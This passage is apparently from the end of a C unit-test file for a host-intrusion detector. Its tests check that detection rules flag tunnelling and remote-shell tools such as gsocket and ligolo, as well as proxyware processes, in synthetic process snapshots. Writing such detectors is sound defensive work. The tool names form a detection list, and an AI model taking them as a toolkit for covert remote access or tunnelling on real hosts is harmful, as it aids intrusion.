	assert_int_equal(tl_get(&fs, "RM-RES-002", 1005)->severity, SEV_HIGH);
	assert_string_equal(tl_ev_str(tl_get(&fs, "RM-RES-002", 1005), "peer"),
	    "198.51.100.9:443");
	findings_free(&fs);
	p[5].argv0 = "tmux";
	p[5].cmdline = "tmux";

	tl_run_one(s, "RM-RES-002", &fs);
	assert_true(tl_get(&fs, "RM-RES-002", 1000)->severity >= SEV_HIGH);
	assert_string_equal(tl_ev_str(tl_get(&fs, "RM-RES-002", 1000), "tool"),
	    "gsocket");
	assert_int_equal(tl_get(&fs, "RM-RES-002", 1001)->severity, SEV_INFO);
	assert_int_equal(tl_get(&fs, "RM-RES-002", 1002)->severity,
	    SEV_CRITICAL);
	assert_string_equal(tl_ev_str(tl_get(&fs, "RM-RES-002", 1003), "tool"),
	    "ligolo");
	assert_int_equal(tl_get(&fs, "RM-RES-002", 1004)->severity, SEV_HIGH);
	assert_int_equal(tl_count(&fs, "RM-RES-002", 1005), 0);
	findings_free(&fs);
	tl_snap_free(s);
}

static void
test_proxyware_proc(void **st)
{
	struct snapshot *s = tl_snap_new();
	struct proc *p = tl_procs(s, 3);
	struct findings fs;
	const struct finding *f;

	(void)st;
	tl_proc_set(s, &p[0], 1000, 1, "Cli", "/app/traffmonetizer/Cli",
	    EXE_FILE);
	p[0].container_id = "0123456789abcdef0123456789abcdef0123456789abcdef"
	    "0123456789abcdef";
	tl_proc_set(s, &p[1], 1001, 1, "psclient", "/usr/local/bin/psclient",
	    EXE_FILE);
	tl_proc_set(s, &p[2], 1002, 1, "grep", "/usr/bin/grep", EXE_FILE);
	set_cmd(s, &p[2], "grep honeygain /var/log/syslog");

	tl_run_one(s, "RM-RES-004", &fs);
	f = tl_get(&fs, "RM-RES-004", 1000);
	assert_int_equal(f->severity, SEV_HIGH);
	assert_non_null(tl_ev_str(f, "container_id"));
	assert_string_equal(tl_ev_str(tl_get(&fs, "RM-RES-004", 1001),
	    "proxyware"), "psclient");
	assert_int_equal(tl_count(&fs, "RM-RES-004", 1002), 0);
	findings_free(&fs);
	tl_snap_free(s);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_ssh),
		cmocka_unit_test(test_socat),
		cmocka_unit_test(test_nc),
		cmocka_unit_test(test_tunnel),
		cmocka_unit_test(test_names),
		cmocka_unit_test(test_revshell_cmd),
		cmocka_unit_test(test_artefact_names),
		cmocka_unit_test(test_collect),
		cmocka_unit_test(test_relay),
		cmocka_unit_test(test_revshell),
		cmocka_unit_test(test_tool_proc),
		cmocka_unit_test(test_proxyware_proc),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
